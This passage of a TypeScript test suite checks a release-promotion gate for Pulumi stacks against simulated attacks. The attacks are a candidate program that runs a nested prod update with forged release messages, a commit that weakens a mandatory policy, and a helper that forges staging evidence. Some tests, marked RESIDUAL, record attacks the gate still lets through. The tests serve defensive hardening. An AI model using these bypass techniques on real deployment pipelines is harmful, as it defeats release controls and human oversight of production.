        it("refused offline too: promote --workspace --stack prod in the candidate's checkout runs the judging commit's promote with --checkout itself (exit 1, parity names the 20 workers)", () => {
            const result = offlineOwnCheckout;
            assert.equal(result.code, 1, result.stdout + result.stderr);
            assert.match(result.stderr, new RegExp(`promote: prod is judged by commit ${judging.slice(0, 12)}; running its release tooling`));
            assert.match(result.stdout, new RegExp(`evidence built by the release tooling of commit ${judging.slice(0, 12)}, the judging commit`));
            assert.match(result.stdout, /"etl-job" numberOfWorkers: staging 10, prod 20/);
        });
        it("refused before any run: --checkout with tooling that is not the judging commit (exit 2)", () => {
            const result = untrustedTooling;
            assert.equal(result.code, 2, result.stdout + result.stderr);
            assert.match(
                result.stderr,
                new RegExp(
                    `this promote runs from commit ${commit.slice(0, 12)}, but prod is judged by commit ${judging.slice(0, 12)} \\(the release prod runs\\); run promote from a clean checkout of that commit`,
                ),
            );
        });
        it("RESIDUAL (the candidate's own tooling): a module of src/ (imported by cli/lib/stacks/stack-file-config.ts) rewrites staging's evidence inside promote; prod deploys 20 workers, staging runs 10", async () => {
            const [prod, staging] = [await exported("prod"), await exported("staging")];
            assert.deepEqual(
                [staging("etl-job")?.inputs?.numberOfWorkers, prod("etl-job")?.inputs?.numberOfWorkers],
                [10, 20],
                `the tooling runs the candidate's code with prod's credentials (README, trust model); if this fails, it no longer does: update the README. Gate ${JSON.stringify(promotion.gate)}:\n${show(promotion.preview)}`,
            );
            assert.equal(refusal(promotion.preview, "staging-prod-parity"), "");
        });
    });

    it("refused: release N changes policy-pack/ (lowers staging-prod-parity to advisory) without the prod environment's approval, so it cannot judge release N+1", async function () {
        this.timeout(600_000);
        const relaxed = sys().commit(
            { "policy-pack/src/enforcement.ts": replacing('"staging-prod-parity": "mandatory"', '"staging-prod-parity": "advisory"') },
            "a pack change, nothing else",
        );
        const before = (await history("prod")).length;
        await assert.rejects(
            sys().promote("prod", "5.0.0", { commit: relaxed, env: {} }),
            (error: Error) => error.constructor.name === "GateRefusal" && /this release changes policy-pack\//.test(error.message),
        );
        assert.equal((await history("prod")).length, before, "nothing ran");
    });

    describe("the program runs with the credentials of the stack it deploys", function () {
        let commit: string;
        let historyBefore: { kind: string; result: string; message: string }[];
        let promotion: Promotion;

        before(async function () {
            this.timeout(600_000);
            historyBefore = await history("prod");
            commit = sys().commit(
                { "src/program.ts": compose(doubledWorkersIf("process.env.ATLAS_GATE_ATTACK_NESTED"), afterProvider(NESTED_UPDATE)) },
                "a program that deploys prod itself",
            );
            // Through the CLI, as in CI: the program inherits the CLI's environment (backend, passphrase, PATH).
            promotion = await sys().promote("prod", "6.0.0", { commit, programPath: "cli" });
        });

        it("(precondition) promote did not update prod: its preview failed with the program's error", () => {
            assert.equal(promotion.update, null);
            assert.match(promotion.preview.errors.join("\n"), /a harmless-looking program error/);
        });
        it("RESIDUAL: during promote's gated preview the prod program runs `pulumi up` of prod without the pack, with a forged release message", async () => {
            const after = await history("prod");
            const added = after.slice(0, after.length - historyBefore.length);
            const forged = added.filter((e) => e.result === "succeeded");
            assert.equal(forged.length, 1, "the program holds prod's credentials during the preview (README, trust model: preview with a read-only role)");
            assert.equal(parseReleaseMessage(forged[0].message)?.identity.commit, commit, "the forged entry names the candidate as prod's release");
            const [prod, staging] = [await exported("prod"), await exported("staging")];
            assert.notEqual(prod("etl-job")?.inputs?.numberOfWorkers, staging("etl-job")?.inputs?.numberOfWorkers);
        });
        it("refused where the workflow judges (promote-prod.yml's gate job: a preview-only promote with prod's read-only role): the program's nested update is denied, and no forged release is recorded", async function () {
            this.timeout(600_000);
            const before = await history("prod");
            const restore = { AWS_PROFILE: process.env.AWS_PROFILE, [READ_ONLY_PROFILES_ENV]: process.env[READ_ONLY_PROFILES_ENV] };
            Object.assign(process.env, { AWS_PROFILE: "atlas-prod-preview", [READ_ONLY_PROFILES_ENV]: "atlas-prod-preview" });
            // The nested update must write (the first one above already doubled prod's workers): three times as many.
            const tripling = sys().commit(
                {
                    "src/program.ts": compose(
                        replacing(
                            "numberOfWorkers: config.glueNumberOfWorkers,",
                            "numberOfWorkers: process.env.ATLAS_GATE_ATTACK_NESTED ? config.glueNumberOfWorkers * 3 : config.glueNumberOfWorkers,",
                        ),
                        afterProvider(NESTED_UPDATE),
                    ),
                },
                "a program that deploys prod itself, tripling its workers",
            );
            const workersBefore = (await exported("prod"))("etl-job")?.inputs?.numberOfWorkers;
            let judged: Promotion;
            try {
                judged = await sys().promote("prod", "6.0.1", { commit: tripling, programPath: "cli", previewOnly: true });
            } finally {
                for (const [key, value] of Object.entries(restore)) {
                    if (value === undefined) delete process.env[key];
                    else process.env[key] = value;
                }
            }
            assert.equal(judged.succeeded, false);
            const after = await history("prod");
            const added = after.slice(
                0,
                after.findIndex((entry) => JSON.stringify(entry) === JSON.stringify(before[0])),
            );
            assert.deepEqual(
                added.map((e) => e.result),
                ["failed"],
                "the nested update ran, and every write of it was denied",
            );
            assert.equal((await exported("prod"))("etl-job")?.inputs?.numberOfWorkers, workersBefore, "prod's workers unchanged");
        });
    });

    describe("outside the engine: what the prod job executes", function () {
        it("RESIDUAL (static): the prod job's workflow file is the default branch's (GitHub runs workflow_run from it), so a merged change to .github/ decides what runs with prod's role; the job itself runs the judging commit's tooling against the candidate's checkout", () => {
            const github = path.join(__dirname, "..", "..", ".github");
            const workflow = fs.readFileSync(path.join(github, "workflows", "promote-prod.yml"), "utf8");
            // The prod job installs both checkouts through its local action; that action is part of what runs with prod's role.
            const candidateAction = fs.readFileSync(path.join(github, "actions", "prod-candidate", "action.yml"), "utf8");
            assert.match(workflow, /workflow_run:/, "if prod's job no longer comes from the default branch, update the README's trust model");
            assert.match(workflow, /uses: \.\/\.github\/actions\/prod-candidate/);
            assert.match(candidateAction, /\(cd "\$RUNNER_TEMP\/gate" && npm ci --ignore-scripts\)/);
            assert.match(candidateAction, /\(cd "\$RUNNER_TEMP\/candidate" && npm ci --ignore-scripts\)/);
            assert.doesNotMatch(workflow + candidateAction, /npm (ci|install)(?! --ignore-scripts)/, "every install in prod's jobs skips install scripts");
            assert.match(workflow, /npm run --silent promote -- --stack prod [^\n]*--checkout "\$RUNNER_TEMP\/candidate"/);
        });
    });
});

/**
 * Prod's evidence as someone holding prod's credentials can rewrite it (it is a local file handed to the engine):
 * staging's release update and the candidate relabelled `to`. It still agrees with itself, so the policies that read
 * only the evidence pass it.
 */
function relabelled(config: PolicyConfig, from: string, to: string): PolicyConfig {
    const relabel = (promotion: PromotionEvidence): PromotionEvidence => {
        const [release, ...older] = promotion.stagingChanges;
        return {
            ...promotion,
            candidate: { ...promotion.candidate, version: to },
            stagingChanges: [{ ...release, message: replacing(`atlas release ${from} `, `atlas release ${to} `)(release.message) }, ...older],
        };
    };
    return Object.fromEntries(
        Object.entries(config).map(([policy, block]) => {
            const promotion = (block as { promotion?: PromotionEvidence } | undefined)?.promotion;
            return [policy, promotion ? { ...(block as object), promotion: relabel(promotion) } : block];
        }),
    );
}

/** The crafted preview: prod's evidence relabelled, and an honest program told it deploys `version` of the same commit. */
async function craftedPreview(system: ReleaseSystem, staging: string, version: string): Promise<{ honest: Promotion; crafted: RunOutcome }> {
    const honest = await system.promote("prod", staging, { previewOnly: true });
    assert.deepEqual(mandatory(honest.preview), [], `(precondition) promote's own evidence passes:\n${show(honest.preview)}`);
    const crafted = await system.run("prod", "preview", { ...honest.release, version }, relabelled(honest.policyConfig, staging, version));
    return { honest, crafted };
}

describe("evidence written by hand, with prod's credentials (the engine's own read of staging)", function () {
    describe("prod and staging run 1.0.0", function () {
        const fixture = withOfflineWorkspace({ deployed: true });

        it("refused: prod's evidence with staging's version relabelled 1.0.0 → 1.2.0, and an honest program at 1.2.0 of the same commit; prod-references-staging names both versions", async function () {
            this.timeout(600_000);
            const { crafted } = await craftedPreview(fixture.system, DEPLOYED_VERSION, "1.2.0");
            assert.deepEqual(mandatory(crafted), ["prod-references-staging"], `the forged evidence passes every other policy:\n${show(crafted)}`);
            assert.match(
                refusal(crafted, "prod-references-staging"),
                /prod's StackReference reads staging's `release` at version 1\.0\.0, but prod deploys version 1\.2\.0\./,
            );
        });

        it("refused: the evidence untouched (staging's 1.0.0), but the program told it deploys 1.2.0; its `release` output would claim what staging never ran", async function () {
            this.timeout(600_000);
            const honest = await fixture.system.promote("prod", DEPLOYED_VERSION, { previewOnly: true });
            const claimed = await fixture.system.run("prod", "preview", { ...honest.release, version: "1.2.0" }, honest.policyConfig);
            assert.deepEqual(mandatory(claimed), ["prod-references-staging"], show(claimed));
            assert.match(
                refusal(claimed, "prod-references-staging"),
                /prod's `release` output claims version 1\.2\.0, but its StackReference reads staging's `release` at version 1\.0\.0: prod would report a release staging never ran/,
            );
        });
        it("allowed: a quiet release (the same commit as 1.1.0) once staging runs it: the engine records staging's new `release` output though no resource changed", async function () {
            this.timeout(600_000);
            const staging = await fixture.system.promote("staging", "1.1.0");
            assertDeployed(staging, "staging @ 1.1.0");
            assert.deepEqual(changedResources(staging.update!), {}, `(precondition) a quiet release:\n${show(staging.update)}`);
            assertDeployed(await fixture.system.promote("prod", "1.1.0"), "prod @ 1.1.0, the quiet release staging runs");
            assert.equal(((await fixture.system.state("prod")).outputs.upstreamRelease as { version: string }).version, "1.1.0");
        });
    });

    describe("prod's first deployment (no StackReference in its state yet)", function () {
        const fixture = withOfflineWorkspace();

        it("refused the same way: the engine reads staging in the preview of prod's first deployment, so the reference is known there (not an unknown to refuse)", async function () {
            this.timeout(600_000);
            assertDeployed(await fixture.system.promote("staging", "1.0.0"), "staging @ 1.0.0");
            const { honest, crafted } = await craftedPreview(fixture.system, "1.0.0", "1.2.0");
            assert.deepEqual(await fixture.system.state("prod").then((state) => Object.keys(state.resources)), [], "(precondition) prod has deployed nothing");
            assert.equal(honest.gate?.source, "bootstrap", "(precondition) a first deployment");
            assert.deepEqual(mandatory(crafted), ["prod-references-staging"], show(crafted));
            assert.match(
                refusal(crafted, "prod-references-staging"),
                /prod's StackReference reads staging's `release` at version 1\.0\.0, but prod deploys version 1\.2\.0\./,
            );
            assert.doesNotMatch(refusal(crafted, "prod-references-staging"), /unknown during preview/);
        });
    });
});
